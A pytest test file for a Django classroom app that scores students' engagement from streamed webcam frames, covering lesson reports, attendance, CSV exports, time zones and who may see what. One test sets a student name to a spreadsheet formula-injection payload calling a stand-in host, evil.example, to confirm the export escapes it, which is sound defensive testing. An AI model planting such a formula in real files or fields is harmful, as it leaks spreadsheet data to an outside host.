"""The lesson report: its figures against a session streamed from a real clip, attendance, the CSVs, who sees what."""

from __future__ import annotations

import asyncio
import base64
import codecs
import csv
import io
import warnings

import pytest
from asgiref.sync import async_to_sync
from channels.db import database_sync_to_async
from channels.testing import ApplicationCommunicator
from django.conf import settings
from django.test import Client
from django.utils import timezone
from socket_helpers import connect, jpeg, receive_until

from classroom.services import classroom_join
from sessions_app.models import Session
from vision.media import read_frames

pytestmark = pytest.mark.django_db(transaction=True)
ZJU_CLIP = ("zju_eyeblink", "1", "000001M_FBN.avi")  # 138 frames, 3 blinks (tests/test_session_recording.py)


@pytest.fixture
def absentee(make_user, classroom):
    user = make_user("absentee", first_name="Abe", last_name="Sent")
    classroom_join(student=user, code=classroom.join_code)
    return user


async def stream_clip(classroom, student, path) -> None:
    communicator, connected = await connect(f"/ws/student/{classroom.join_code}/", student)
    assert connected
    for _, t, rgb in read_frames(path):
        image = base64.b64encode(jpeg(rgb)).decode()
        await communicator.send_json_to({"type": "frame", "image": image, "ts": round(t * 1000, 3)})
        await receive_until(communicator, "feedback")
    await communicator.disconnect()


async def ended_session(student) -> Session:
    def load():
        return Session.objects.filter(student=student, status=Session.Status.ENDED).select_related("lesson").first()

    for _ in range(100):
        session = await database_sync_to_async(load)()
        if session is not None:
            return session
        await asyncio.sleep(0.1)
    raise AssertionError("the session did not end after the socket closed")


@pytest.fixture
async def streamed(classroom, student, absentee, shared_testdata, settings):
    """The real ZJU clip streamed through the student socket; its session, ended."""
    settings.SMARTSESSION_RESUME_SECONDS = 0.05
    await stream_clip(classroom, student, shared_testdata.joinpath(*ZJU_CLIP))
    return await ended_session(student)


def csv_text(response) -> str:
    """A lesson CSV's text; the response streams from an asynchronous iterator, and starts with a byte-order mark."""

    async def read() -> bytes:
        return b"".join([part async for part in response.streaming_content])

    data = async_to_sync(read)()
    assert data.startswith(codecs.BOM_UTF8)  # so that Excel reads the names as UTF-8
    return data.decode("utf-8-sig")


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(csv_text(response))))


async def test_it_reports_the_streamed_sessions_figures(client, teacher, student, classroom, streamed):
    session = streamed

    def get(path):
        client.force_login(teacher)
        return client.get(path)

    response = await database_sync_to_async(get)(f"/lessons/{session.lesson_id}/")
    assert response.status_code == 200
    report = response.context["report"]
    [came] = report.attended
    [never] = report.absent
    assert (came.student, never.student.username) == (student, "absentee")
    assert came.blinks == session.blink_count == 3  # what vision analyze counts on this clip
    assert came.frames == session.frames_analysed == 138
    assert came.time_in_state == pytest.approx(session.time_in_state)
    assert came.connected_s == pytest.approx(session.duration.total_seconds())
    assert came.connected_s == pytest.approx(4.83, abs=0.01)  # the clip's own last timestamp
    assert came.recorded_s == pytest.approx(came.connected_s, abs=0.05)  # every second accounted for
    assert came.blink_rate_per_min == pytest.approx(session.blink_rate_per_min, abs=0.05)
    assert came.mean_engagement == pytest.approx(session.mean_engagement, abs=0.05)
    assert (came.first_joined, came.last_left) == (session.started_at, session.ended_at)
    page = response.content.decode()
    assert "Never came" in page and "Abe Sent" in page

    def get_csv(path):
        return csv_rows(get(path))  # the rows are read from the database as the response streams

    rows = {
        row["student_username"]: row
        for row in await database_sync_to_async(get_csv)(f"/lessons/{session.lesson_id}/students.csv")
    }
    assert rows.keys() == {"student", "absentee"}
    mine = rows["student"]
    assert (mine["class"], mine["class_code"], mine["attended"]) == (classroom.name, classroom.join_code, "yes")
    assert (int(mine["blinks"]), int(mine["frames_analysed"]), int(mine["sessions"])) == (3, 138, 1)
    assert float(mine["connected_s"]) == pytest.approx(came.connected_s, abs=0.05)
    assert (rows["absentee"]["attended"], rows["absentee"]["class"]) == ("no", classroom.name)

    samples = await database_sync_to_async(get_csv)(f"/lessons/{session.lesson_id}/samples.csv")
    stored = await database_sync_to_async(session.samples.count)()
    assert len(samples) == stored >= 1
    assert {(row["student_username"], row["class_code"], row["session_id"]) for row in samples} == {
        ("student", classroom.join_code, str(session.pk))
    }


async def test_it_shows_a_student_only_their_own_row_and_alerts(client, student, absentee, streamed):
    def get():
        client.force_login(student)
        return client.get(f"/lessons/{streamed.lesson_id}/")

    response = await database_sync_to_async(get)()
    report = response.context["report"]
    assert [figures.student for figures in report.students] == [student]
    assert not report.shows_everyone and "Never came" not in response.content.decode()


def test_it_hides_the_report_from_another_teacher_and_students_who_were_not_there(
    client, other_teacher, other_student, student, classroom
):
    from sessions_app.services import session_start

    session, _ = session_start(student=student, classroom=classroom)
    classroom_join(student=other_student, code=classroom.join_code)
    for user in (other_teacher, other_student):
        client.force_login(user)
        assert client.get(f"/lessons/{session.lesson_id}/").status_code == 404
        assert client.get(f"/lessons/{session.lesson_id}/students.csv").status_code == 404
    client.logout()
    assert client.get(f"/lessons/{session.lesson_id}/").status_code == 302


def test_it_shows_times_in_the_class_time_zone(client, teacher, student, classroom):
    from classroom.services import classroom_set_time_zone
    from sessions_app.services import session_start

    classroom_set_time_zone(classroom=classroom, time_zone="Asia/Tokyo")
    session, _ = session_start(student=student, classroom=classroom)
    client.force_login(teacher)
    page = client.get(f"/lessons/{session.lesson_id}/").content.decode()
    tokyo = timezone.localtime(session.lesson.started_at, timezone=__import__("zoneinfo").ZoneInfo("Asia/Tokyo"))
    assert "Times are in Asia/Tokyo" in page
    assert f'{tokyo:%H:%M:%S}</time>' in page
    # The CSV keeps ISO 8601 with the offset, whatever the class's zone.
    rows = csv_rows(client.get(f"/lessons/{session.lesson_id}/students.csv"))
    assert rows[0]["lesson_started_at"] == session.lesson.started_at.isoformat()


def test_it_links_the_report_from_the_class_history_and_the_dashboard(client, teacher, student, classroom):
    from sessions_app.services import session_start

    session, _ = session_start(student=student, classroom=classroom)
    client.force_login(teacher)
    history = client.get(f"/teach/{classroom.join_code}/history/").content.decode()
    assert f'href="/lessons/{session.lesson_id}/"' in history
    dashboard = client.get(f"/teach/{classroom.join_code}/").content.decode()
    assert f'href="/lessons/{session.lesson_id}/"' in dashboard


@pytest.fixture
def lesson_with_two_students(classroom, student, other_student, make_sample):
    """A lesson with a sample of `student` (engagement 90) and one of `other_student` (10), and an alert each."""
    from classroom.services import membership_consent
    from sessions_app.services import AlertIn, alerts_record, session_record_samples, session_start

    membership_consent(membership=classroom_join(student=other_student, code=classroom.join_code))
    moment = timezone.now()  # one moment for both samples: one point on the timeline
    for who, engagement in ((student, 90), (other_student, 10)):
        session, _ = session_start(student=who, classroom=classroom, started_at=moment)
        session_record_samples(session_id=session.pk, samples=[make_sample(moment, engagement=engagement)])
        alerts_record(student_id=who.pk, classroom_id=classroom.pk, session_id=session.pk,
                      alerts=[AlertIn(kind="drowsy", reason="Eyes closing", time=moment)])
    return session.lesson


def test_it_shows_the_class_timeline_to_the_teacher_only(client, teacher, student, lesson_with_two_students):
    client.force_login(teacher)
    teachers = client.get(f"/lessons/{lesson_with_two_students.pk}/")
    assert [point["engagement"] for point in teachers.context["report"].timeline] == [50.0]
    assert 'id="lesson-timeline"' in teachers.content.decode()

    client.force_login(student)
    students = client.get(f"/lessons/{lesson_with_two_students.pk}/")
    # The class's mean says something about every classmate: a student sees their own row and alerts only.
    assert students.status_code == 200
    assert students.context["report"].timeline == [] and students.context["chart_samples"] == []
    page = students.content.decode()
    assert 'id="lesson-timeline"' not in page and "Class engagement" not in page


def test_it_names_each_alerts_student_as_everywhere_else(client, teacher, other_student, lesson_with_two_students):
    other_student.first_name, other_student.last_name = "Olga", "Other"
    other_student.save()
    client.force_login(teacher)
    page = client.get(f"/lessons/{lesson_with_two_students.pk}/").content.decode()
    assert "<strong>Olga Other</strong>: Eyes closing" in page and "<strong>student</strong>: Eyes closing" in page


def test_it_keeps_a_name_that_looks_like_a_formula_as_text_in_both_csv_files(
    client, teacher, student, lesson_with_two_students
):
    student.first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    student.save()
    client.force_login(teacher)
    rows = csv_rows(client.get(f"/lessons/{lesson_with_two_students.pk}/students.csv"))
    samples = csv_rows(client.get(f"/lessons/{lesson_with_two_students.pk}/samples.csv"))
    for row in (*rows, *samples):
        if row["student_username"] == "student":
            assert row["student_name"] == "'" + student.first_name
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())


def session_cookie(user) -> bytes:
    client = Client()
    client.force_login(user)
    return f"{settings.SESSION_COOKIE_NAME}={client.cookies[settings.SESSION_COOKIE_NAME].value}".encode()


async def asgi_get(path: str, cookie: bytes) -> tuple[int, bytes]:
    """GET through the ASGI application Daphne serves (not the test client), with all of the body."""
    from smartsession.asgi import application

    scope = {"type": "http", "http_version": "1.1", "method": "GET", "path": path, "scheme": "https",
             "query_string": b"", "headers": [(b"host", b"testserver"), (b"cookie", cookie)]}
    communicator = ApplicationCommunicator(application, scope)
    await communicator.send_input({"type": "http.request", "body": b""})
    start = await communicator.receive_output(10)
    body = b""
    while True:
        message = await communicator.receive_output(10)
        body += message.get("body", b"")
        if not message.get("more_body"):
            return start["status"], body


async def test_it_streams_the_csv_files_under_asgi_without_reading_them_whole_first(
    teacher, lesson_with_two_students
):
    cookie = await database_sync_to_async(session_cookie)(teacher)
    for name in ("students", "samples"):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            status, body = await asgi_get(f"/lessons/{lesson_with_two_students.pk}/{name}.csv", cookie)
        assert status == 200
        # Django's warning when it must buffer a sync iterator: the whole file in memory, sent only at the end.
        assert not [warning for warning in caught if "StreamingHttpResponse" in str(warning.message)]
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
        assert {row["student_username"] for row in rows} == {"student", "other_student"}


def test_a_live_lesson_report_reads_every_streaming_students_samples_in_one_query(
        teacher, classroom, make_user, make_sample):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from classroom.lesson_report import lesson_report
    from sessions_app.services import session_record_samples, session_start

    def queries_with_more_streaming(students: int) -> int:
        moment = timezone.now()
        for number in range(students):
            who = make_user(f"live{Session.objects.count()}x{number}")
            classroom_join(student=who, code=classroom.join_code)
            session, _ = session_start(student=who, classroom=classroom, started_at=moment)
            session_record_samples(session_id=session.pk, samples=[make_sample(moment, engagement=50)])
        with CaptureQueriesContext(connection) as queries:
            report = lesson_report(lesson=session.lesson, user=teacher)
        assert sum(figures.attended for figures in report.students) == Session.objects.count()
        return len(queries)

    two_streaming = queries_with_more_streaming(2)
    assert queries_with_more_streaming(4) == two_streaming, "no query more for each student streaming now"
